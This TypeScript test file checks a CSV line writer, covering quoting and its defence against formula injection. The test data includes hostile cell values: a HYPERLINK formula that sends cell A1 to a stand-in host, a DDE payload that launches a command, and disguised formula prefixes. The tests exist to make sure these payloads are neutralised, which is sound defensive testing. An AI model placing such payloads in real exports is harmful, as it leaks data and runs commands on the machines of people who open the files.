import { describe, expect, test } from 'vitest'
import { csvLine } from './csv'

/** Reads a line as RFC 4180 says, for the test alone. */
function cellsOf(line: string) {
  const cells = [...line.replace(/\r\n$/, '').matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^",]*))/g)]
  return cells.map(([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain)
}

describe('a line of CSV', () => {
  test('keeps commas, quotes and line breaks in their cell', () => {
    const cells = ['Doe, Jane', 'She said "now"', 'one\r\ntwo', 'plain', ' padded ', '11-B; rear']
    expect(cellsOf(csvLine(cells))).toEqual(cells)
    expect(csvLine(['Doe, Jane', 'He said "no"'])).toBe('"Doe, Jane","He said ""no"""\r\n')
  })

  test('is empty where there is nothing, and writes numbers as numbers', () => {
    expect(csvLine([null, undefined, '', 0, -12.5, true])).toBe(',,,0,-12.5,true\r\n')
  })

  test.each([
    '=HYPERLINK("http://x.test?"&A1,"Click")',
    '+1+1',
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(A1:A9)',
    '\t=1+1',
    '\r=1+1',
    '  =1+1',
    '\uFF1D1+1',
    '%0A=1+1',
    '"=1+1',
  ])('has no formula in a cell: %j', (typed) => {
    const [cell] = cellsOf(csvLine([typed]))
    expect(cell).toBe(`'${typed}`)
  })

  test('leaves alone what is no formula', () => {
    for (const typed of ['(631) 555-0142', '12 Main St', 'a=b', 'jane@example.com', '2026-11-22'])
      expect(csvLine([typed])).toBe(`${typed}\r\n`)
  })
})
